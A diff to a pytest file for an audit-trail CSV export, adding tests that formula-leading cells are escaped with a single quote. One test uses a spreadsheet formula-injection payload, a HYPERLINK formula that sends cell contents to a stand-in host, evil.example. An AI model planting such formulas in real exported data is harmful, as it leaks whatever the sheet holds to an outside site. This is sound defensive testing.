@@ -1,12 +1,15 @@
 """The audit trail reads in plain Chinese: labels from one registry, names instead of codes, logins
 folded away, dates checked, and an export of exactly the filtered list named in local time."""
 
+import csv
+import io
 import re
 
 import pytest
 import time_machine
 
 from audit import labels, services
+from core.safe_text import for_spreadsheet
 from tests.workflow.helpers import draft, to_state
 
 
@@ -63,3 +66,30 @@ def test_the_export_has_the_filtered_events_and_a_local_time_name(auditor, user)
     body = response.content.decode("utf-8-sig")
     assert "test.kept" in body and "test.dropped" not in body and "财务资产处" in body
     assert services.tree_size() and labels.label("audit.export_filtered") == "导出审计事件（筛选列表）"
+
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula(auditor, user):
+    """A display name typed as a formula (=HYPERLINK(…) sends what the sheet holds to a stranger's
+    site when clicked) comes out as plain text in Excel/WPS: a leading single quote, as for +, -, @."""
+    lure = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
+    liaison = user("cwc_liaison")
+    liaison.first_name, liaison.last_name = lure, ""
+    liaison.save()
+    head = user("cwc_head")
+    head.first_name, head.last_name = "-2+3", ""
+    head.save()
+    draft(user, title=lure)
+    services.record("test.kept", actor=head, department="cwc")
+    response = auditor.get("/audit/export/events.csv", {"department": "cwc"})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    people = {row[2] for row in rows[1:]}
+    assert "'" + lure in people and "'-2+3" in people
+    assert "公开事项：" + lure in {row[4] for row in rows}  # a title inside a cell is harmless
+    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+
+
+def test_every_formula_start_is_neutralised_and_numbers_are_left_alone():
+    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
+        assert for_spreadsheet(text) == "'" + text
+    assert [for_spreadsheet(value) for value in ("财务资产处", "a=b", 42, -3, None)] == ["财务资产处", "a=b", 42, -3, None]
